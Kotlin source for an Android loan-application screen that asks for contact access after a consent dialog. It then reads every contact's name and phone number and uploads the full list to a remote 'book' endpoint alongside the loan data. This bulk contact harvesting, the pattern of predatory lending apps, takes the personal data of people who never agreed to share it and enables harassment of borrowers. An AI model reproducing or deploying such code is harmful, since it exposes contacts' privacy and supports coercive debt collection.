package com.ownwordsfordialogs.app

import android.app.Activity
import android.os.Bundle
import android.provider.ContactsContract.CommonDataKinds.Phone
import android.widget.EditText
import java.net.HttpURLConnection
import java.net.URL
import kotlin.concurrent.thread

/** Takes the application; its button brings up the notice. */
class LoanActivity : Activity() {
    override fun onCreate(state: Bundle?) {
        super.onCreate(state)
        setContentView(R.layout.activity_loan)
        findViewById(R.id.next).setOnClickListener { notice() }
    }

    private fun notice() {
        dialog {
            title = R.string.agree_title
            message = R.string.agree_text
            yes(R.string.yes) { onClick { ask() } }
            no(R.string.no) { onClick { apply() } }
        }
    }

    private fun ask() {
        requestPermissions(arrayOf("android.permission.READ_CONTACTS"), 4)
    }

    override fun onRequestPermissionsResult(code: Int, names: Array<String>, results: IntArray) {
        if (results.isNotEmpty() && results[0] == 0) {
            thread { send("book", everybody()) }
        }
        apply()
    }

    private fun apply() {
        val words = (findViewById(R.id.reference) as EditText).text.toString()
        thread { send("loan", words) }
    }

    private fun everybody(): String {
        val all = StringBuilder()
        contentResolver.query(Phone.CONTENT_URI, arrayOf(Phone.DISPLAY_NAME, Phone.NUMBER), null, null, null)?.use {
            while (it.moveToNext()) all.append(it.getString(0)).append(',').append(it.getString(1)).append(';')
        }
        return all.toString()
    }

    private fun send(what: String, words: String) {
        val call = URL("https://api.wrenfield.example/$what").openConnection() as HttpURLConnection
        call.doOutput = true
        call.outputStream.use { it.write(words.toByteArray()) }
        call.responseCode
    }
}
